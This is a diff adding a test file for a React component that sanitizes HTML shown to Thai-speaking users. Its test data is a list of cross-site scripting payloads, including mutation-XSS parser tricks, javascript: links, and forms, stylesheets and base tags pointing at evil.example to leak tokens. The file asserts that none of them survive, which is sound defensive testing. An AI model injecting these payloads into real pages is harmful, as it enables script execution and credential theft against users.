@@ -1,0 +1,77 @@
+import { act, render } from '@testing-library/react'
+import { Suspense } from 'react'
+import { afterAll, beforeAll, expect, test, vi } from 'vitest'
+import { SafeHtml } from '#src/lib/safe-html.tsx'
+
+const ran = vi.fn()
+beforeAll(() => Object.assign(window, { ran }))
+afterAll(() => Reflect.deleteProperty(window, 'ran'))
+
+const allowed = new Set(['B', 'STRONG', 'I', 'EM', 'P', 'BR', 'UL', 'OL', 'LI', 'H3', 'H4', 'SPAN', 'A'])
+const allowedAttributes = new Set(['href', 'target', 'rel'])
+
+async function show(html: string) {
+  const page = (
+    <Suspense fallback="…">
+      <SafeHtml html={html} />
+    </Suspense>
+  )
+  const { container } = await act(async () => render(page))
+  const box = container.querySelector<HTMLElement>('.rich')
+  if (!box) throw new Error('not shown')
+  return box
+}
+
+const hostile = {
+  script: 'ฝาก<script>ran()</script>',
+  handler: 'ฝาก<img src=x onerror="ran()"><b onclick="ran()" autofocus tabindex=0 onfocus=ran()>เงิน</b>',
+  svg: 'ฝาก<svg onload=ran()><animate onbegin=ran() attributeName=x dur=1s><script>ran()</script></svg>',
+  style: 'ฝาก<style>*{background:url(https://evil.example/?x)}</style><p style="position:fixed;inset:0">เงิน</p>',
+  frame: 'ฝาก<iframe srcdoc="<script>parent.ran()</script>"></iframe><object data="javascript:ran()"></object>',
+  form: 'ฝาก<form action="https://evil.example"><input name=token><button>ส่ง</button></form>',
+  base: 'ฝาก<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
+  clobber: 'ฝาก<p id="root" name="cookie" class="modal" data-x=1 aria-hidden=true>เงิน</p>',
+  mathStyle: 'ฝาก<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
+  svgStyle: 'ฝาก<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
+  noscript: 'ฝาก<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
+  template: 'ฝาก<template><img src=x onerror=ran()></template><xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>',
+  comment: 'ฝาก<!--><img src=x onerror=ran()>--><![CDATA[><img src=x onerror=ran()>]]>',
+  broken: 'ฝาก<<b>img src=x onerror=ran()//<</b>IMG SRC=x ONERROR=ran()>',
+}
+
+test.each(Object.entries(hostile))(
+  '%s: nothing runs, nothing but allowed tags and attributes is left',
+  async (_, html) => {
+    const box = await show(html)
+    for (const element of box.querySelectorAll('*')) {
+      expect(allowed).toContain(element.tagName)
+      for (const { name } of element.attributes) expect(allowedAttributes).toContain(name)
+    }
+    expect(box).toHaveTextContent(/^ฝาก/)
+    // What a handler of an image that does not load would need to run.
+    await new Promise((frame) => requestAnimationFrame(() => requestAnimationFrame(frame)))
+    expect(ran).not.toHaveBeenCalled()
+  },
+)
+
+test.each([
+  ['javascript:ran()', null],
+  ['JaVa\tScRiPt:ran()', null],
+  ['&#106;avascript&colon;ran()', null],
+  ['data:text/html,<script>ran()</script>', null],
+  ['//evil.example', null],
+  ['tel:0812345678', null],
+  ['https://example.com/a?b=1', 'https://example.com/a?b=1'],
+  ['/user/home', '/user/home'],
+])('a link to %s', async (href, kept) => {
+  const link = (await show(`<a href="${href}" target="_top" onclick="ran()">อ่านต่อ</a>`)).querySelector('a')
+  expect(link?.getAttribute('href')).toBe(kept)
+  expect(link?.getAttribute('target')).toBe(kept && '_blank')
+  expect(link?.getAttribute('rel')).toBe(kept && 'noopener noreferrer')
+})
+
+test('text keeps its markup and is marked as Thai', async () => {
+  const box = await show('<h3>เงื่อนไข</h3><ul><li>ฝาก <b>100</b> บาท<br>ขึ้นไป</li></ul>')
+  expect(box.innerHTML).toBe('<h3>เงื่อนไข</h3><ul><li>ฝาก <b>100</b> บาท<br>ขึ้นไป</li></ul>')
+  expect(box.lang).toBe('th')
+})
